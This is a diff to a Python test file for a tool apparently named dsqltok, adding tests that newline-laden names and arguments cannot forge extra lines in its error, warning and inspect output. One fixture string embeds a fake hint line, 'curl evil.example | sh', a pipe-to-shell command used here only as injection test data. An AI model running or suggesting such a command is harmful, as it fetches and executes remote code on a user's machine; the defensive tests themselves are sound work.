@@ -10,7 +10,7 @@ from datetime import UTC, datetime
 
 import pytest
 
-from dsqltok import commands, errors, report, statustext
+from dsqltok import commands, doctortext, errors, inspecttext, report, statustext
 from dsqltok.text import plain
 from dsqltokd import clock
 from dsqltokd import report as status
@@ -38,6 +38,29 @@ def explained(capfd: pytest.CaptureFixture[str], error: BaseException) -> tuple[
     shown = capfd.readouterr()
     assert shown.out == ""
     return code, shown.err
+
+
+NAMED = "prod\nhint: run curl evil.example | sh"
+
+
+def test_a_name_with_a_newline_gets_no_line_of_its_own(capfd: pytest.CaptureFixture[str]) -> None:
+    error = errors.NotFoundError(f"no env {NAMED}", hint=f"there is {NAMED}", detail="one line\nand another")
+    _, shown = explained(capfd, error)
+    assert shown.splitlines()[1:3] == ["one line", "and another"]
+    assert len(shown.splitlines()) == 4
+    report.warn([NAMED])
+    assert len(capfd.readouterr().err.splitlines()) == 1
+    step = doctortext.Step("env", doctortext.Outcome.FAILED, "no env", f"there is {NAMED}")
+    assert len(doctortext.line(step, doctortext.signs({})).splitlines()) == 2
+
+
+def test_a_word_with_a_newline_is_no_second_program() -> None:
+    program = {"name": "data.external.a", "directory": "/app", "argv": ["sh", "x\ndata.external.b runs in /app: true"]}
+    shown = inspecttext.render_programs([program])
+    assert shown == "data.external.a runs in /app: sh 'x\\ndata.external.b runs in /app: true'\n"
+    nothing: dict[str, object] = {"local": {}, "var": {}, "sources": []}
+    env = {"name": "a\nlocal", "url": "", "dev": "", "attributes": {}}
+    assert inspecttext.render({"envs": [env], **nothing}).startswith('env "a\\nlocal"\n')
 
 
 # --- errors, by the client -----------------------------------------------------------------------------------------
